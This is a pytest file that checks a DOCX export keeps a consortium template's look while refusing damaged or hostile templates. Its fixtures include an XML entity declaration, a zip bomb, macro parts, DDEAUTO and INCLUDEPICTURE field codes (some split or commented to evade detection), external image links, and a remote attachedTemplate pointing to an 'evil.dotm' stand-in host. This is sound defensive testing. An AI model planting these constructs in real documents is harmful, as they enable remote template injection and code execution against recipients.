"""DOCX in a consortium's own template: its look stays, and a file that is damaged, hostile or fetches is refused."""

import io
import re
import time
import zipfile
from collections.abc import Callable
from typing import Any

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import qn
from docx.shared import RGBColor

from app.core.errors import Invalid
from app.documents.docx_template import MACROS, NO_DOCX, TAKES_IN
from app.documents.pictures import with_pictures
from app.documents.to_docx import to_docx
from tests.documents.accessible import check_docx
from tests.documents.samples import (
    make_empty,
    make_report,
)
from tests.documents.templates import make_template, repacked
from tests.documents.test_to_docx import opened, styled


def test_a_template_keeps_its_styles_headers_and_logo_and_loses_its_body() -> None:
    file = opened(make_report(), make_template())
    assert file.styles["Heading 1"].font.color.rgb == RGBColor(0xAA, 0x00, 0x55)
    assert file.sections[0].header.paragraphs[0].text == "BioNorth consortium"
    assert list(file.sections[0].header._element.iter(qn("a:blip")))
    assert file.sections[-1].footer.paragraphs[0].text == "Grant 101000000"
    assert round(file.sections[0].left_margin.cm, 2) == 4
    assert "Text of the template" not in [one.text for one in file.paragraphs]
    assert styled(file, "Title") == ["Five-year joint action plan"]


def test_what_only_the_body_of_a_template_used_is_gone() -> None:
    data = to_docx(make_empty(), make_template())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert [name for name in archive.namelist() if "media" in name] == ["word/media/image2.png"]


@pytest.mark.parametrize("without", [("Caption",), ("Heading 1", "Heading 2", "Title"), ("List Bullet", "List Number")])
def test_a_style_that_a_template_lacks_looks_like_ours(without: tuple[str, ...]) -> None:
    data = to_docx(with_pictures(make_report()), make_template(without=without))
    assert check_docx(data) == []
    file: Any = docx.Document(io.BytesIO(data))
    for name in without:
        assert file.styles[name].type == WD_STYLE_TYPE.PARAGRAPH
        assert styled(file, name)


def without_document(parts: dict[str, bytes]) -> None:
    del parts["word/document.xml"]


def broken_xml(parts: dict[str, bytes]) -> None:
    parts["word/styles.xml"] = b"<w:styles"


def no_types(parts: dict[str, bytes]) -> None:
    del parts["[Content_Types].xml"]


def entities(parts: dict[str, bytes]) -> None:
    text = parts["word/document.xml"].decode()
    at = text.index("<w:document")
    parts["word/document.xml"] = (text[:at] + '<!DOCTYPE x [<!ENTITY a "b">]>' + text[at:]).encode()


def bomb(parts: dict[str, bytes]) -> None:
    parts["word/media/large.bin"] = b"\0" * 100_000_001


def many_parts(parts: dict[str, bytes]) -> None:
    parts.update({f"word/{number}.xml": b"" for number in range(2001)})


@pytest.mark.parametrize("change", [without_document, broken_xml, no_types, entities, bomb, many_parts])
def test_a_damaged_template_is_refused_in_one_sentence(change: Callable[[dict[str, bytes]], None]) -> None:
    with pytest.raises(Invalid) as refused:
        to_docx(make_empty(), repacked(make_template(), change))
    assert refused.value.message == NO_DOCX


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"%PDF-1.7", b"\0" * 1000])
def test_what_is_no_docx_is_refused(data: bytes) -> None:
    with pytest.raises(Invalid, match="cannot be read as a DOCX"):
        to_docx(make_empty(), data)


def test_a_template_that_is_too_large_is_refused() -> None:
    with pytest.raises(Invalid, match="too large"):
        to_docx(make_empty(), b"\0" * 20_000_001)


def macros(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = b"\0"


def macro_type(parts: dict[str, bytes]) -> None:
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )


def object_in_header(parts: dict[str, bytes]) -> None:
    rels = next(name for name in parts if name.startswith("word/_rels/header"))
    parts[rels] = parts[rels].replace(b"relationships/image", b"relationships/oleObject")


@pytest.mark.parametrize("change", [macros, macro_type, object_in_header])
def test_a_template_with_macros_is_refused(change: Callable[[dict[str, bytes]], None]) -> None:
    with pytest.raises(Invalid) as refused:
        to_docx(make_empty(), repacked(make_template(), change))
    assert refused.value.message == MACROS


def in_header(words: str, relation: str = "") -> Callable[[dict[str, bytes]], None]:
    """What puts words into the first header of a template, and a relation into what it leads to."""

    def changed(parts: dict[str, bytes]) -> None:
        name = next(name for name in parts if name.startswith("word/header"))
        parts[name] = parts[name].replace(b"</w:hdr>", f"<w:p><w:r>{words}</w:r></w:p></w:hdr>".encode())
        rels = f"word/_rels/{name.removeprefix('word/')}.rels"
        parts[rels] = parts[rels].replace(b"</Relationships>", f"{relation}</Relationships>".encode())

    return changed


KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ELSEWHERE = '<Relationship Id="rId99" Type="{}/{}" Target="http://127.0.0.1/x" TargetMode="External"/>'

FIELD = '<w:fldChar w:fldCharType="begin"/><w:instrText>{}</w:instrText><w:fldChar w:fldCharType="end"/>'
SPACES = f'xmlns:a="a" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:r="{KINDS}"'


@pytest.mark.parametrize(
    "change",
    [
        in_header("", ELSEWHERE.format(KINDS, "image")),
        in_header("<w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE x</w:instrText>"),
        in_header('</w:r><w:fldSimple w:instr=" DDEAUTO x y "/><w:r>'),
        in_header(FIELD.format("PAGE") + "</w:r><w:r>" + FIELD.format("INCLUDEPICTURE x")),
        in_header(FIELD.format("INCL<!-- nothing -->UDEPICTURE x")),
        in_header(f'<w:drawing><a:blip {SPACES} r:link="rId99"/></w:drawing>', ELSEWHERE.format(KINDS, "hyperlink")),
        in_header(f'<w:pict><v:imagedata {SPACES} src="http://127.0.0.1/x"/></w:pict>'),
    ],
    ids=["picture", "split field", "field", "second field", "comment in a field", "drawn by a link", "VML"],
)
def test_a_template_that_takes_in_what_is_elsewhere_is_refused(change: Callable[[dict[str, bytes]], None]) -> None:
    with pytest.raises(Invalid, match=re.escape(TAKES_IN)):
        to_docx(make_empty(), repacked(make_template(), change))


def test_links_and_page_numbers_of_a_template_stay() -> None:
    link = f'</w:r><w:hyperlink {SPACES} r:id="rId99"><w:r><w:t>BioNorth</w:t></w:r></w:hyperlink><w:r>'
    change = in_header(FIELD.format("PAGE") + link, ELSEWHERE.format(KINDS, "hyperlink"))
    assert to_docx(make_empty(), repacked(make_template(), change))


def test_of_a_template_only_what_is_look_stays() -> None:
    def with_more(parts: dict[str, bytes]) -> None:
        kind = '<Relationship Id="rId97" Type="{}/{}" Target="theme/theme1.xml"/></Relationships>'
        rels = "word/_rels/document.xml.rels"
        parts[rels] = parts[rels].replace(b"</Relationships>", kind.format(KINDS, "glossaryDocument").encode())

    file: Any = opened(make_empty(), repacked(make_template(), with_more))
    assert "rId97" not in file.part.rels


def test_a_template_that_is_slow_to_search_is_read_in_a_moment() -> None:
    def slow(parts: dict[str, bytes]) -> None:
        parts["word/theme/theme1.xml"] = b'<a:theme xmlns:a="a">' + b"instrText " * 200_000 + b"</a:theme>"

    begun = time.monotonic()
    assert to_docx(make_empty(), repacked(make_template(), slow))
    # one that is searched anew from each of these words takes some minutes
    assert time.monotonic() - begun < 20


def test_a_template_packed_as_no_document_is_refused() -> None:
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(make_template())) as archive,
        zipfile.ZipFile(made, "w", zipfile.ZIP_LZMA) as packed,
    ):
        for name in archive.namelist():
            packed.writestr(name, archive.read(name))
    with pytest.raises(Invalid, match="cannot be read as a DOCX"):
        to_docx(make_empty(), made.getvalue())


def test_a_template_saved_as_one_is_taken_and_leads_to_no_other() -> None:
    def as_dotx(parts: dict[str, bytes]) -> None:
        types = parts["[Content_Types].xml"]
        parts["[Content_Types].xml"] = types.replace(b"document.main+xml", b"template.main+xml")
        settings = parts["word/settings.xml"].decode()
        at = settings.index("<w:zoom")
        named = '<w:attachedTemplate r:id="rId1"/>'
        parts["word/settings.xml"] = (settings[:at] + named + settings[at:]).encode()
        parts["word/_rels/settings.xml.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://example.org/evil.dotm" TargetMode="External"/></Relationships>'
        )

    data = to_docx(make_empty(), repacked(make_template(), as_dotx))
    assert check_docx(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(b"evil.dotm" in archive.read(name) for name in archive.namelist())
        assert b"attachedTemplate" not in archive.read("word/settings.xml")
